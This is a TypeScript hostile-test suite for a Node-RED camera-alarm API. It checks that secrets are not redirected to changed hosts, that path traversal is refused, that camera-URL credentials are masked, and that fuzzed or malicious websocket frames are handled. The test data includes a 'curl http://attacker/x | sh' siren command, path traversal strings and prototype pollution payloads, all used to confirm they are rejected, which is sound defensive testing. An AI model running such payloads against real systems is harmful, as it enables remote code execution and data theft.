/**
 * Hostile tests of the camera-alarm API (issue 11 items 2, 4, 5, 7 and the static-page token),
 * against real Node-RED nodes (vigil-system, vigil-alarm, vigil-camera, vigil-telegram,
 * vigil-siren, vigil-api) over real HTTP and websockets on loopback; plus fuzz of the command
 * decoder (lib/api/envelope.ts) and hostile frames on a live socket with the event loop watched.
 * Time runs on a FakeClock that, like Node's own timers, fires any delay above 2^31 − 1 ms at
 * once — the defect of item 4 — so a 30-day timer that is not chained is caught without waiting.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import sharp from 'sharp';
import { WebSocket } from 'ws';
import { ENVELOPE_LIMITS, parseEnvelope } from '../../lib/api/envelope';
import { FakeClock, type TimerHandle } from '../../lib/common/clock';
import { MAX_TIMER_MS } from '../../lib/common/timer';
import type { SystemHub } from '../../lib/system/hub';
import { tempDir } from '../helpers/clips';
import { assertLoopDelay, deepArray, deepObject, noUncaught, prng, randomBytes, stillAnswering, underAttack } from '../helpers/hostile';
import { boundPort, helper, nodeModule, until } from '../helpers/nodered';
import { Client, isReply, isStatus } from '../lib/api/helpers';

const MODULES = ['vigil-system', 'vigil-alarm', 'vigil-api', 'vigil-telegram', 'vigil-siren', 'vigil-camera'].map((t) => nodeModule(t));
const T0 = Date.parse('2026-06-01T12:00:00Z');
const DAY_S = 86_400;

/** A FakeClock with Node's timer limit: a delay above 2^31 − 1 ms (or below 1) becomes 1 ms. */
class NodeLikeClock extends FakeClock {
  override setTimeout(fn: () => void, ms: number): TimerHandle {
    return super.setTimeout(fn, !(ms >= 1 && ms <= MAX_TIMER_MS) ? 1 : ms);
  }
}

interface Seen {
  url: string;
  authorization?: string;
}

/** An HTTP server that records every request (a Bot API, a camera, or an attacker's host). */
async function recorder(servers: http.Server[], answer: (req: http.IncomingMessage, res: http.ServerResponse) => void = (_q, r) => r.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true,"result":{}}')): Promise<{ base: string; seen: Seen[] }> {
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    seen.push({ url: req.url ?? '', authorization: req.headers.authorization });
    req.resume();
    req.on('end', () => answer(req, res));
  });
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  return { base: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

describe('hostile: vigil-api (issue 11 items 2, 4, 5, 7, static token; the command decoder)', function () {
  let clock: NodeLikeClock;
  const clients: Client[] = [];
  const servers: http.Server[] = [];
  const dirs: Array<() => void> = [];

  beforeEach(async () => {
    clock = new NodeLikeClock(T0);
    helper.settings({ vigilClock: clock } as unknown as Parameters<typeof helper.settings>[0]);
    await helper.startServer();
  });
  afterEach(async () => {
    for (const c of clients.splice(0)) await c.close();
    await helper.unload();
    await helper.stopServer();
    helper.settings({});
    for (const s of servers.splice(0)) await new Promise((r) => s.close(r));
    for (const d of dirs.splice(0)) d();
  });

  /** Deploy `nodes` with a system (s1) and an API on a port the OS picks; resolves once it listens. */
  async function deploy(nodes: Array<Record<string, unknown>>, creds: Record<string, Record<string, string>> = {}, token?: string) {
    const flow = [
      { id: 'tab', type: 'tab' },
      { id: 's1', type: 'vigil-system', name: 'hostile' },
      ...nodes.map((n) => ({ z: 'tab', ...n })),
      { id: 'api', z: 'tab', type: 'vigil-api', system: 's1', listen: 'port', host: '127.0.0.1', port: 0 },
    ];
    await helper.load(MODULES, flow as Parameters<typeof helper.load>[1], { ...creds, ...(token ? { api: { token } } : {}) });
    const hub = (helper.getNode('s1') as unknown as { hub: SystemHub }).hub;
    const apiNode = helper.getNode('api');
    const api = apiNode as unknown as { status: { lastCall?: { args: Array<{ fill?: string }> } } };
    await until(() => api.status.lastCall?.args[0]?.fill === 'green', 'API listening', 3000);
    const port = boundPort(apiNode) ?? 0; // given port 0: the OS picked this one
    const http = `http://127.0.0.1:${port}`;
    const connect = async (): Promise<Client> => {
      const c = new Client(`ws://127.0.0.1:${port}/`);
      clients.push(c);
      await c.open();
      return c;
    };
    const config = async (): Promise<Record<string, Record<string, unknown>>> => (await (await fetch(`${http}/config`)).json()) as Record<string, Record<string, unknown>>;
    return { port, hub, http, connect, config };
  }

  const alarm = { id: 'al', type: 'vigil-alarm', system: 's1', startTime: '00:00', endTime: '00:00', timezone: 'UTC', wires: [[], ['tg']] };
  const errorsOf = (reply: Record<string, unknown>): Array<{ loc: unknown[]; type: string; msg: string }> => {
    assert.ok(Array.isArray(reply.error), `expected a validation error, got ${JSON.stringify(reply)}`);
    return reply.error as Array<{ loc: unknown[]; type: string; msg: string }>;
  };

  it('item 2: a masked Telegram token never goes to an API base changed by config_update (refused; the secret itself is accepted)', async () => {
    const good = await recorder(servers);
    const evil = await recorder(servers);
    const tg = { id: 'tg', type: 'vigil-telegram', system: 's1', alerterName: 'telegram', chatIds: '42', apiBase: good.base };
    const { connect, config } = await deploy([alarm, tg], { tg: { apiKey: 'SECRET-TOKEN-123' } });
    const c = await connect();
    const doc = await config();
    const telegram = (doc.alerters as unknown as Record<string, Record<string, unknown>>).telegram;
    assert.equal(telegram.api_key, '********');
    telegram.api_base = evil.base;
    const refused = errorsOf(await c.ask({ command: 'config_update', data: { config: doc } }));
    assert.deepEqual(
      refused.map((e) => [e.loc, e.type]),
      [[['data', 'config', 'alerters', 'telegram', 'api_key'], 'value_error.secret']],
    );
    assert.deepEqual(await c.ask({ command: 'test', data: { excluded: [] } }), { status: 'OK' });
    await until(() => good.seen.length + evil.seen.length > 0, 'the test alert', 3000);
    assert.equal(evil.seen.length, 0, 'nothing reached the changed API base');
    assert.match(good.seen[0].url, /^\/botSECRET-TOKEN-123\//);
    // Carrying the secret itself, the change is a plain reconfiguration: the stored token stays home.
    telegram.api_key = 'DECOY';
    assert.deepEqual(await c.ask({ command: 'config_update', data: { config: doc } }), { status: 'OK' });
    assert.deepEqual(await c.ask({ command: 'test', data: { excluded: [] } }), { status: 'OK' });
    await until(() => evil.seen.length > 0, 'the test alert to the new base', 3000);
    assert.match(evil.seen[0].url, /^\/botDECOY\//);
    assert.ok(!JSON.stringify(evil.seen).includes('SECRET-TOKEN-123'));
  });

  it("item 2: the siren's SSH host and a camera's URL host do not change at run time while their nodes hold credentials", async () => {
    const cam = await recorder(servers);
    const evil = await recorder(servers);
    const nodes = [
      alarm,
      { id: 'tg', type: 'vigil-siren', system: 's1', alerterName: 'siren', host: '127.0.0.1', port: 1, username: 'pi' },
      { id: 'cam', type: 'vigil-camera', system: 's1', source: 'mjpeg', url: `${cam.base}/video.mjpeg`, autoStart: false, wires: [[]] },
    ];
    const { hub, connect, config } = await deploy(nodes, { tg: { password: 'SSH-PASSWORD' }, cam: { username: 'viewer', password: 'CAM-PASSWORD' } });
    const c = await connect();
    const doc = await config();
    (doc.alerters as unknown as Record<string, Record<string, unknown>>).siren.ssh_host = '127.0.0.2';
    doc.camera.url = `${evil.base}/video.mjpeg`;
    const siren = (doc.alerters as unknown as Record<string, Record<string, unknown>>).siren;
    const refused = errorsOf(await c.ask({ command: 'config_update', data: { config: doc } }));
    assert.deepEqual(refused.map((e) => [e.loc, e.type]).sort(), [
      [['data', 'config', 'alerters', 'siren', 'ssh_host'], 'value_error.secret'],
      [['data', 'config', 'camera', 'url'], 'value_error.secret'],
    ]);
    assert.match(refused[0].msg, /credentials/);
    assert.equal(hub.getConfig().camera?.url, `${cam.base}/video.mjpeg`, 'nothing applied');
    assert.equal((hub.getConfig().alerters.siren as Record<string, unknown>).ssh_host, '127.0.0.1');
    assert.deepEqual(evil.seen, []);
    // Nor may a client choose the command the siren's credentials run on its host.
    siren.ssh_host = '127.0.0.1';
    doc.camera.url = `${cam.base}/video.mjpeg`;
    siren.command = 'curl http://attacker/x | sh';
    const cmd = errorsOf(await c.ask({ command: 'config_update', data: { config: doc } }));
    assert.deepEqual(cmd.map((e) => e.loc), [['data', 'config', 'alerters', 'siren', 'command']]);
    assert.equal((hub.getConfig().alerters.siren as Record<string, unknown>).command, 'aplay siren.wav -d 21');
  });

  it('item 4: silence and shutdown of 30 days do not end at once; above 366 days they are refused in the reference shape', async () => {
    const { hub, connect } = await deploy([alarm]);
    const c = await connect();
    let shutdowns = 0;
    hub.on('shutdown', () => shutdowns++);
    assert.deepEqual(await c.ask({ command: 'silence', data: { silenceFor: 30 * DAY_S } }), { status: 'OK' });
    assert.deepEqual(await c.ask({ command: 'shutdown', data: { shutdownIn: 30 * DAY_S } }), { status: 'OK' });
    const from = c.got.text.length;
    clock.advance(10_000); // less than one ping interval: the client stays connected
    await c.next((m) => isStatus(m) && m.timeStamp >= T0 / 1000 + 9, from);
    const last = c.got.text.filter(isStatus).at(-1)!;
    assert.equal(last.state, 'silenced', 'still silenced after 10 s');
    assert.equal(last.silencedTill, T0 / 1000 + 30 * DAY_S);
    assert.equal(shutdowns, 0, 'no shutdown yet');
    assert.equal(hub.running, true);
    for (const body of [
      { command: 'silence', data: { silenceFor: 400 * DAY_S } },
      { command: 'shutdown', data: { shutdownIn: 400 * DAY_S } },
      { command: 'silence', data: { silence_for: '1e300' } },
    ]) {
      const errs = errorsOf(await c.ask(body));
      assert.equal(errs.length, 1);
      assert.equal(errs[0].type, 'value_error.number.not_le', JSON.stringify(errs));
      assert.equal(errs[0].msg, 'ensure this value is less than or equal to 31622400');
    }
  });

  it("item 5: a file camera's path never becomes a client-chosen one; /snapshot serves only the configured file", async () => {
    const t = tempDir('vigil-hostile-');
    dirs.push(t.cleanup);
    const pub = path.join(t.dir, 'public');
    const priv = path.join(t.dir, 'private');
    fs.mkdirSync(pub);
    fs.mkdirSync(priv);
    const jpeg = (r: number, g: number, b: number): Promise<Buffer> => sharp({ create: { width: 16, height: 16, channels: 3, background: { r, g, b } } }).jpeg().toBuffer();
    const mine = await jpeg(200, 0, 0);
    const theirs = await jpeg(0, 0, 200);
    fs.writeFileSync(path.join(pub, 'a.jpg'), mine);
    fs.writeFileSync(path.join(priv, 'b.jpg'), theirs);
    const cam = { id: 'cam', type: 'vigil-camera', system: 's1', source: 'file', url: path.join(pub, 'a.jpg'), fps: 1, wires: [[]] };
    const { hub, http, connect, config } = await deploy([cam]);
    await until(() => hub.frame !== undefined, 'the first frame', 3000);
    const c = await connect();
    for (const url of [`${pub}/../private/b.jpg`, '../../../../../../../../' + path.join(priv, 'b.jpg'), priv, `file://${priv}/b.jpg`]) {
      const doc = await config();
      doc.camera.url = url;
      const errs = errorsOf(await c.ask({ command: 'config_update', data: { config: doc } }));
      assert.deepEqual(errs.map((e) => e.loc), [['data', 'config', 'camera', 'url']], url);
    }
    clock.advance(3000);
    await new Promise((r) => setImmediate(r));
    const snap = Buffer.from(await (await fetch(`${http}/snapshot`)).arrayBuffer());
    assert.ok(snap.equals(mine), '/snapshot serves the configured file');
    assert.ok(!hub.frame!.jpeg.equals(theirs));
  });

  it('item 7: /config masks every credential-bearing part of a camera URL', async () => {
    const cam = { id: 'cam', type: 'vigil-camera', system: 's1', source: 'ffmpeg', url: 'rtsp://127.0.0.1:1/live', autoStart: false, wires: [[]] };
    const { hub, config } = await deploy([cam]);
    const urls: Array<[string, string[]]> = [
      ['rtsp://admin:pa/ss-SECRET1@127.0.0.1:1/live', ['pa/ss-SECRET1', 'SECRET1']],
      ['http://127.0.0.1:1/snap.jpg?user=admin&pwd=SECRET2', ['SECRET2']],
      ['http://127.0.0.1:1/cgi-bin/api.cgi?cmd=Snap&password=SECRET3&channel=0', ['SECRET3']],
      ['rtsp://127.0.0.1:1/user=admin&password=SECRET4&channel=1&stream=0.sdp', ['SECRET4']],
      ['https://SECRET5@127.0.0.1:1/x', ['SECRET5']],
      ['rtsp://admin:p@s#s?SECRET6@127.0.0.1:1/live', ['SECRET6', 'p@s#s']],
      ['http://127.0.0.1:1/x?access_token=SECRET7&Sig=SECRET8', ['SECRET7', 'SECRET8']],
    ];
    for (const [url, secrets] of urls) {
      assert.deepEqual(hub.applyConfig({ ...hub.getConfig(), camera: { url } }), [], url);
      const body = JSON.stringify(await config());
      for (const s of secrets) assert.ok(!body.includes(s), `${url}: /config shows ${s}: ${body}`);
      assert.match(body, /127\.0\.0\.1:1/, 'the host is still shown');
    }
  });

  it('static page: /static/index.html needs the token like /; the script and style stay public', async () => {
    const { http } = await deploy([], {}, 'tok');
    assert.equal((await fetch(`${http}/`)).status, 401);
    const page = await fetch(`${http}/static/index.html`);
    assert.notEqual(page.status, 200, '/static/index.html is not served without the token');
    assert.doesNotMatch(await page.text(), /<html/i);
    assert.equal((await fetch(`${http}/static/monitor.js`)).status, 200);
    assert.equal((await fetch(`${http}/static/monitor.css`)).status, 200);
    assert.match(await (await fetch(`${http}/?access_token=tok`)).text(), /<html/i);
  });

  it('fuzz: the command decoder never throws on random bytes, deep nesting, huge lengths, invalid UTF-8 and hostile keys', async () => {
    const rnd = prng(0x5eed);
    const inputs: Array<string | Buffer> = [
      deepArray(200_000),
      deepObject(100_000),
      `{"command":"silence","data":${deepArray(50_000)}}`,
      `{"command":"config_update","data":{"config":${deepObject(5000)}}}`,
      `{"command":"test","data":{"excluded":[${'"x",'.repeat(200_000)}"y"]}}`,
      `{"command":"silence","data":{"silenceFor":"${'9'.repeat(500_000)}"}}`,
      '"' + 'a'.repeat(2 * 1024 * 1024) + '"',
      Buffer.from([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31, 0x7d]), // {"\xc3(":1} invalid UTF-8
      Buffer.from([0xed, 0xa0, 0x80]), // a UTF-16 surrogate as UTF-8
      Buffer.from([0xff, 0xfe, 0x7b, 0x7d]),
      '{"command":"config_update","data":{"config":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}}}',
      '{"command":"__proto__","data":{}}',
      '{"command":"silence","data":{"silenceFor":1e309}}',
      '{"command":"shutdown","data":{"shutdownIn":-0.5}}',
    ];
    for (let i = 0; i < 2000; i++) inputs.push(randomBytes(rnd, 1 + Math.floor(rnd() * 300)));
    for (let i = 0; i < 500; i++) {
      // random JSON-ish text from the envelope's own alphabet
      const alphabet = ['{', '}', '[', ']', '"command"', '"data"', ':', ',', '"silence"', '"test"', '"config_update"', '"shutdown"', '1', '-1', '"x"', 'null', 'true', '"silenceFor"', '"excluded"', '"config"'];
      let s = '';
      const n = 1 + Math.floor(rnd() * 60);
      for (let j = 0; j < n; j++) s += alphabet[Math.floor(rnd() * alphabet.length)];
      inputs.push(rnd() < 0.5 ? s : Buffer.from(s));
    }
    const m = await underAttack(`api envelope fuzz: ${inputs.length} inputs`, () => {
      for (const input of inputs) {
        const r = parseEnvelope(input);
        if (r.ok) {
          assert.ok(['silence', 'test', 'config_update', 'shutdown'].includes(r.value.command));
          JSON.stringify(r.value); // whatever was accepted can be walked
        } else assert.ok('error' in r.reply && (typeof r.reply.error === 'string' || Array.isArray(r.reply.error)));
      }
    });
    assertLoopDelay(m);
    assert.equal(({} as Record<string, unknown>).polluted, undefined, 'no prototype pollution');
    assert.match(String((parseEnvelope(deepArray(ENVELOPE_LIMITS.maxDepth! + 1)) as { reply: { error: unknown } }).reply.error), /nested too deeply/);
    assert.match(String((parseEnvelope(Buffer.from([0xc3, 0x28])) as { reply: { error: unknown } }).reply.error), /UTF-8/);
  });

  it('hostile frames on a live socket (text and binary): an error reply each, the socket stays open, a binary command is answered OK, the loop keeps turning', async () => {
    const { port, connect } = await deploy([alarm]);
    const c = await connect();
    const frames: Array<[string | Buffer, boolean]> = [
      [deepArray(300_000), false],
      [Buffer.from(deepArray(300_000)), true],
      [Buffer.from(deepObject(100_000)), true],
      [Buffer.from([0x7b, 0xc3, 0x28, 0x7d]), true],
      [randomBytes(prng(7), 64 * 1024), true],
      [`{"command":"test","data":{"excluded":[${'1,'.repeat(100_000)}1]}}`, false],
      ['{"command":"config_update","data":{"config":{"__proto__":{"polluted":1}}}}', false],
    ];
    const m = await underAttack(`vigil-api: ${frames.length} hostile frames on one socket`, () =>
      noUncaught('vigil-api hostile frames', async () => {
        for (const [data, binary] of frames) {
          const from = c.got.text.length;
          c.ws.send(data, { binary });
          const reply = (await c.next(isReply, from)) as Record<string, unknown>;
          assert.ok('error' in reply, `a hostile frame was accepted: ${JSON.stringify(reply).slice(0, 200)}`);
        }
      }),
    );
    assertLoopDelay(m);
    assert.equal(c.ws.readyState, WebSocket.OPEN);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
    const from = c.got.text.length;
    c.ws.send(Buffer.from(JSON.stringify({ command: 'test', data: { excluded: [] } }), 'utf8'), { binary: true });
    assert.deepEqual(await c.next(isReply, from), { status: 'OK' });
    // A frame over the 1 MiB limit closes only that socket (1009), never the server.
    const big = await connect();
    big.ws.send(Buffer.alloc(1024 * 1024 + 1, 0x20), { binary: true });
    await big.until(() => big.closeCode !== undefined);
    assert.equal(big.closeCode, 1009);
    await stillAnswering(`http://127.0.0.1:${port}`, '/health');
    await stillAnswering(helper);
  });
});
